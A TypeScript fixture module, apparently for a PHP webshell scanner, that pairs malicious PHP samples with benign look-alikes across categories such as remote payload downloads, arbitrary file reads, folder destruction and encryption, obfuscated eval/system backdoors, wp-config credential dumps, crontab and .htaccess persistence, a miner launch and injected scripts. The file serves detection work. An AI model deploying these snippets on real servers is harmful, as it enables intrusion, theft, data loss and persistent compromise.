import { base64, php } from './spelling.ts'
import type { Technique } from './technique.ts'

/** Files fetched, spread, handed out and destroyed; whole tools that stand by themselves; and other ways to get input. */
export const HARM: readonly Technique[] = [
  {
    name: 'archives and pages from elsewhere',
    severity: 'suspicious',
    samples: [
      php(
        `copy('http://drop.example/p.zip', 'p.zip'); $z = new ZipArchive; $z->open('p.zip'); $z->extractTo('.'); unlink('p.zip');`,
      ),
      php(`system('wget http://drop.example/p.txt -O wp-p.php');`),
      php(`$f = __DIR__ . '/img/b.png'; if (!is_file($f)) file_put_contents($f, base64_decode($t)); include $f;`),
      php(
        `$h = fopen('.q', 'w'); fwrite($h, "<?php\\n$m[1]"); fclose($h); include('.q'); include "{$d}.q"; unlink('.q');`,
      ),
    ],
    honest: [
      php(
        `defined('ABSPATH') || exit; copy('https://downloads.example/p.zip', $t); $z = new ZipArchive; $z->open($t); $z->extractTo($d);`,
      ),
      php(`exec('curl -sS https://getcomposer.org/installer -o composer-setup.php');`),
      php(`namespace Cache; fwrite($h, '<?php return ' . var_export($v, true) . ';'); include $file; unlink($old);`),
      php(`file_put_contents($f, base64_decode($image)); echo "<img src='$f'>";`),
    ],
  },
  {
    name: 'any file of the server',
    severity: 'suspicious',
    samples: [
      php(`$f = $_GET['f']; header('Content-Disposition: attachment; filename=' . basename($f)); readfile($f);`),
      php(`echo '<pre>' . htmlspecialchars(file_get_contents($_REQUEST['n'])) . '</pre>';`),
    ],
    honest: [
      php(`$f = basename($_GET['f']); header('Content-Type: image/png'); readfile(__DIR__ . '/' . $f);`),
      php(`if (!in_array($_GET['f'], $allowed)) exit; header('Content-Type: text/plain'); readfile($_GET['f']);`),
    ],
  },
  {
    name: 'folders wrecked',
    severity: 'suspicious',
    samples: [
      php(`function r($d) { foreach (glob("$d/*") as $f) is_dir($f) ? r($f) : unlink($f); rmdir($d); } r($_GET['d']);`),
      php(`function o($d) { foreach (scandir($d) as $f) chmod("$d/$f", 0777); } o($_SERVER['DOCUMENT_ROOT']);`),
      php(
        `foreach (glob($_POST['d'] . '/*') as $f) { file_put_contents("$f.x", openssl_encrypt(file_get_contents($f), 'aes-256-cbc', $_POST['k'])); unlink($f); }`,
      ),
      php(
        `foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/var/www')) as $i) if ($i->isDir()) file_put_contents($i . '/x.html', 'was here');`,
      ),
      php(
        `foreach (glob('*.php') as $f) { $t = file_get_contents($f); file_put_contents($f, str_replace('</body>', '<script src=//x.example/a.js></script></body>', $t)); }`,
      ),
    ],
    honest: [
      php(`class Folder { function empty($d) { foreach (glob("$d/*") as $f) unlink($f); rmdir($d); } }`),
      php(`foreach (glob($cache . '/*.html') as $f) if (filemtime($f) < time() - 3600) unlink($f);`),
      php(
        `$page = file_get_contents('page.html'); echo str_replace('</body>', '<script src=/a.js></script></body>', $page);`,
      ),
    ],
  },
  {
    name: 'guarded by a word',
    severity: 'suspicious',
    samples: [
      php(
        `if ($_REQUEST['password'] == 'k2j9d') { $wpdb->query('UPDATE ' . $wpdb->prefix . 'posts SET post_content = 1'); }`,
      ),
      php(`if ($_POST['pass'] !== 'tulip77') exit; foreach (scandir('/') as $f) echo $f;`),
    ],
    honest: [
      php(
        `if ($_POST['password'] == '') $errors[] = 'empty'; if ($_POST['pass'] !== $_POST['pass2']) $errors[] = 'differ';`,
      ),
      php(`if ($_GET['action'] == 'delete') unlink($file);`),
    ],
  },
  {
    name: 'nothing but phpinfo',
    severity: 'suspicious',
    samples: ['<?php phpinfo(); ?>', '<?php @phpinfo();'],
    honest: [
      php(`if (current_user_can('manage_options')) phpinfo();`),
      php(`function info() { ob_start(); phpinfo(INFO_MODULES); return ob_get_clean(); }`),
    ],
  },
  {
    name: 'scripts that no one can read',
    severity: 'suspicious',
    samples: [
      `<?php add_action('wp_head', function () { ?><script>${Array.from({ length: 40 }, (_, at) => `var _0x${(0x4a10 + at).toString(16)}=${at};`).join('')}</script><?php });`,
      `<?php echo '<script>eval(String.fromCharCode(${Array.from({ length: 40 }, (_, at) => 60 + at).join(',')}))</script>';`,
    ],
    honest: [
      `<?php echo '<script>var a = String.fromCharCode(65, 66);</script>';`,
      `<?php echo '<script>var _0x1 = 1, total = 0; for (var i = 0; i < 9; i++) total += i;</script>';`,
    ],
  },
  {
    name: 'words of attackers',
    severity: 'suspicious',
    samples: [
      `<html><title>priv8 bypass</title><?php if ($_POST['x']) { echo 'exploit by hackers'; $h = fopen($n, 'w'); fwrite($h, 'a'); } ?>`,
      `<?php $menu = array('Bind Shell', 'Reverse Shell'); $s = fsockopen($host, $port);`,
    ],
    honest: [
      `<?php /* Hackers may try to bypass this check. */ if ($_POST['x']) mail($to, 'a', 'b');`,
      `<?php defined('ABSPATH') || exit; // backdoor exploit bypass\n$bad = array('/etc/passwd', 'r00t'); if (isset($_GET['x'])) unlink($f);`,
    ],
  },
  {
    name: 'tools that stand alone',
    severity: 'suspicious',
    samples: [
      `<form><input name=p></form><?php class B { function go($d) { $h = opendir($d); if ($_GET['x']) { unlink($d); rename($d, 'b'); chmod($d, 5); mkdir($d); move_uploaded_file($a, $d); } } }`,
      `<form><textarea name=q></textarea></form><?php session_start(); $l = mysqli_connect($_SESSION['h'], $_SESSION['u'], $_SESSION['p']); $r = mysqli_query($l, 'SHOW DATABASES'); $q = mysqli_query($l, $sql); echo $_POST['a'];`,
    ],
    honest: [
      `<form><input name=p></form><?php namespace Files; opendir($d); unlink($d); rename($d, 'b'); chmod($d, 5); mkdir($d); copy($a, $_GET['d']);`,
      `<form><input name=q></form><?php require_once 'db.php'; $l = mysqli_connect($host, $user, $pass); $r = mysqli_query($l, 'SHOW TABLES'); echo $_POST['q'];`,
    ],
  },
  {
    name: 'odd ways to run',
    severity: 'suspicious',
    samples: [
      php(`$p = expect_popen($_GET['c']);`),
      php(`dl($_GET['x']);`),
      php(`mail('a@b', '', '', '', '-X/var/www/x.php');`),
      php(`error_log('<?php echo 1;', 3, 'x.php');`),
      php(`session_start(); $_SESSION['k'] = base64_decode($_COOKIE['PHPSESSID']);`),
    ],
    honest: [
      php(`error_log('failed: ' . $text, 3, '/var/log/app.log');`),
      php(`mail($to, $subject, $text, $headers, '-f' . $from);`),
    ],
  },
  {
    name: 'other ways to get input',
    severity: 'confirmed',
    samples: [
      php(`assert(getallheaders()['X']);`),
      php(`eval(filter_input(INPUT_POST, 'x'));`),
      php(`eval(filter_input(INPUT_COOKIE, 'x', FILTER_UNSAFE_RAW));`),
      php(`$v = array_values($_SERVER); system($v[6]);`),
      php(`system(substr($_SERVER['PATH_INFO'], 1));`),
      php(`function &r() { return $_POST['c']; } eval(r());`),
      php(`import_request_variables('gp', 'q_'); system($q_c);`),
      php(`$f = str_replace(array('1', '2'), array('sys', 'tem'), '12'); $f($_GET['c']);`),
      php(`$f = substr('systems', 0, -1); $f($_GET['c']);`),
      php(`$h = fopen('php://input', 'r'); $t = ''; while (!feof($h)) $t .= fread($h, 512); eval($t);`),
      php(`$p = &$_POST; preg_replace(chr(47) . $p['a'] . chr(47) . chr(101), $p['b'], $p['a']);`),
    ],
    honest: [
      php(`$name = filter_input(INPUT_POST, 'x', FILTER_SANITIZE_NUMBER_INT); eval('$y = 1;');`),
      php(`$root = array_values($_SERVER); echo count($root);`),
      php(`$path = trim($_SERVER['PATH_INFO'], '/'); echo htmlspecialchars($path);`),
    ],
  },
  {
    name: 'signs handed to a function',
    severity: 'suspicious',
    samples: [
      php(
        `$k = 'x*dzv(7cet.isp/nj;3ahuwfg0o8r6)4l_25k9qyb1m${base64('q')}'; function j($a, $b) { return $a . $b; } $m = j($k[7], $k[19]) . j($k[32], $k[32]) . j($k[21], $k[12]) . j($k[8], $k[28]) . j($k[15], $k[33]); $m($n, $o);`,
      ),
      php(
        `$s = ''; foreach (array(101, 118, 97, 108) as $b) $s .= chr($b); $f = create_function('', $s . '(1);'); $f();`,
      ),
    ],
    honest: [
      php(`$m = array(1, 2, 3); draw($m[0], $m[10]); draw($m[1], $m[11]); draw($m[2], $m[12]); $f($m);`),
      php(`$s = ''; foreach ($codes as $b) $s .= chr($b); echo $s;`),
    ],
  },
  {
    name: 'secrets of the database',
    severity: 'suspicious',
    samples: [
      php(`require 'wp-load.php'; print_r($wpdb->get_results(stripslashes($_POST['q'])));`),
      php(`include '../wp-config.php'; echo DB_USER . ' ' . DB_PASSWORD;`),
    ],
    honest: [
      php(`print_r($wpdb->get_results($wpdb->prepare('select * from t where id = %d', $_POST['id'])));`),
      php(`$db = new wpdb(DB_USER, DB_PASSWORD, DB_NAME, DB_HOST); echo DB_NAME;`),
    ],
  },
  {
    name: 'what stays',
    severity: 'suspicious',
    samples: [
      php(`$me = file_get_contents(__FILE__); while (true) { file_put_contents('wp-q.php', $me); sleep(3); }`),
      php(`copy(__FILE__, $_SERVER['DOCUMENT_ROOT'] . '/q.php');`),
      php(`file_put_contents('/tmp/.q', $t); chmod('/tmp/.q', 0755); exec('/tmp/.q > /dev/null &');`),
      php(`exec("(crontab -l; echo '* * * * * php /tmp/q') | crontab -");`),
      php(`shell_exec('nohup ./xmrig -o pool.example:3333 &');`),
      php(`file_put_contents('wp-content/themes/x/functions.php', "<?php include '/tmp/.q'; ?>" . $t);`),
      php(
        `$h = file_get_contents('.htaccess') . "\nphp_value auto_prepend_file /tmp/.q"; file_put_contents('.htaccess', $h);`,
      ),
    ],
    honest: [
      php(`class Installer { function copy() { copy(__FILE__, $this->target); } }`),
      php(`$version = file_get_contents(__DIR__ . '/version.txt'); file_put_contents('cache.txt', $version);`),
      php(`exec('ls /tmp/cache', $lines); echo count($lines);`),
      php(`defined('ABSPATH') || exit; $line = 'auto_prepend_file'; file_put_contents(ABSPATH . '.user.ini', $line);`),
    ],
  },
  {
    name: 'what pages hide',
    severity: 'suspicious',
    samples: [
      php(
        `add_action('wp_head', function () { echo base64_decode('${base64('<script src="//x.example/a.js"></script>')}'); });`,
      ),
      php(`echo str_rot13('<vsenzr fep=//k.rknzcyr></vsenzr>');`),
      php(`$s = new SoapServer(null, array('uri' => 'x')); $s->addFunction('system'); $s->handle();`),
    ],
    honest: [
      php(`echo base64_decode('${base64('a plain text for everyone to read')}');`),
      php(`$s = new SoapServer('x.wsdl'); $s->addFunction('price'); $s->handle();`),
    ],
  },
]
